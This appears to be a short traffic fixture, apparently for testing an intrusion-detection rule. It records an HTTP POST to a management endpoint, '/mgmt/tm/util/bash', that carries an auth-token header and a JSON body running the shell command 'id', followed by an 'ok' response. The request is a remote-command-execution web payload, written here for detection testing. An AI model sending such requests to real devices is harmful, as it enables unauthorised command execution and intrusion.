# The token is sent on.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /mgmt/tm/util/bash HTTP/1.1\r\n
Host: shop.example\r\n
Connection: keep-alive\r\n
X-F5-Auth-Token: a\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 39\r\n
\r\n
{"command":"run","utilCmdArgs":"-c id"}

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
